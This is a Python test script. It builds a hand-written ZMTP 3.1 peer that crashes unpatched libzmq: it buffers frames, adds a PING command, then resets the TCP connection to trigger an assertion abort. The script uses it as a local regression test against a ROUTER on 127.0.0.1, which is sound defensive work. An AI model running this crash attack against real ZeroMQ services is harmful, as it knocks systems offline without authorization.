"""A ZMTP 3.1 peer written by hand (NULL mechanism), for attacks no libzmq socket makes.

``ping_and_reset`` is the attack that aborted libzmq as released: fill the target
connection's pipe with frames, put a PING command behind them, more frames behind
that, and reset the connection (RST, not FIN). When the target next reads that pipe,
libzmq decodes the buffered PING after the connection has failed, tries to answer
it and (unpatched) asserts ``!_io_error``. prime/net/libzmq.py has the story.

Run as a script against a plain ROUTER (``python tests/rawzmtp.py``) it prints
``survived, read N`` and exits 0, or the process aborts (exit -6 / 134).
"""

from __future__ import annotations

import socket
import struct
import sys
import time

GREETING = (
    b"\xff" + b"\0" * 8 + b"\x7f"  # signature
    + b"\x03\x01"  # ZMTP 3.1
    + b"NULL".ljust(20, b"\0")  # mechanism
    + b"\0"  # as-server: no
    + b"\0" * 31
)


def _command(body: bytes) -> bytes:
    assert len(body) < 256
    return bytes([0x04, len(body)]) + body


def _frame(data: bytes) -> bytes:
    assert len(data) < 256
    return bytes([0x00, len(data)]) + data


def _ready(socket_type: bytes) -> bytes:
    key, value = b"Socket-Type", socket_type
    return _command(b"\x05READY" + bytes([len(key)]) + key + struct.pack(">I", len(value)) + value)


def ping_and_reset(host: str, port: int, *, frames: int, payload: bytes = b"junk",
                   settle_s: float = 0.3) -> None:
    """Connect as a DEALER, send ``frames`` frames, a PING, ``frames`` more, then RST."""
    s = socket.create_connection((host, port), timeout=5)
    try:
        s.sendall(GREETING + _ready(b"DEALER"))
        deadline = time.monotonic() + 5
        got = b""
        while len(got) < 64 + 2 and time.monotonic() < deadline:  # its greeting + READY
            chunk = s.recv(4096)
            if not chunk:
                raise ConnectionError("the target closed the connection during the handshake")
            got += chunk
        burst = b"".join(_frame(payload) for _ in range(frames))
        s.sendall(burst + _command(b"\x04PING" + b"\0\0") + burst)
        time.sleep(settle_s)  # the target's io thread reads until the pipe is full
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    finally:
        s.close()  # with SO_LINGER 0: a reset


def _against_a_plain_router() -> int:
    import zmq

    ctx = zmq.Context()
    router = ctx.socket(zmq.ROUTER)
    router.setsockopt(zmq.RCVHWM, 4)
    router.setsockopt(zmq.LINGER, 0)
    port = router.bind_to_random_port("tcp://127.0.0.1")
    ping_and_reset("127.0.0.1", port, frames=50, payload=b"abc")
    time.sleep(0.3)
    read = 0
    while router.poll(200):
        router.recv_multipart()
        read += 1
    print(f"survived, read {read}", flush=True)
    router.close()
    ctx.term()
    return 0


if __name__ == "__main__":
    sys.exit(_against_a_plain_router())
